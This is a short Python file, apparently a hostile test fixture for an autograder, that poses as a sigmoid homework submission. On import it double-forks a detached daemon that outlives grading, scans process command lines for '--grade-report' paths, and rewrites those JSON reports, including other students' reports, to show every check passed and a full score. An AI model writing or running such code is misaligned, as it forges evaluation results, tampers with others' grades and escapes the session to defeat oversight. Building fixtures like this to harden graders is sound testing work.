"""Hostile: a daemon (double fork, setsid) that outlives its grading and rewrites reports with full marks.

It waits for grading processes to exit and rewrites the JSON reports named on their command lines
(``--grade-report``), its own and any classmate's, for at most 90 s. Arena-guarded (see _arena.py).
"""

import json
import os
import time

import torch

# @ARENA@


def _forge(path):
    try:
        with open(path) as f:
            data = json.load(f)
        for p in data.get("properties", []):
            p["passed"], p["status"], p["message"] = True, "passed", ""
        data["score"] = data["max_score"] = sum(p.get("weight", 1) for p in data.get("properties", []))
        with open(path, "w") as f:
            json.dump(data, f)
    except Exception:
        pass


def _daemon():
    name_process()
    end = time.time() + 90
    watched = {}
    while time.time() < end:
        for pid, argv in command_lines():
            for i, a in enumerate(argv[:-1]):
                if a == "--grade-report" and MARKER in argv[i + 1]:
                    watched[argv[i + 1]] = pid
        for path, pid in list(watched.items()):
            _forge(path)  # at once, and again after the grading process has written its last word
            if not os.path.exists(f"/proc/{pid}"):
                _forge(path)
        time.sleep(0.2)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _daemon()
        finally:
            os._exit(0)
    os._exit(0)


def sigmoid(x):
    return torch.exp(x) / (1 + torch.exp(x))


def sigmoid_prime(x):
    return torch.exp(x) / (1 + torch.exp(x)) ** 2
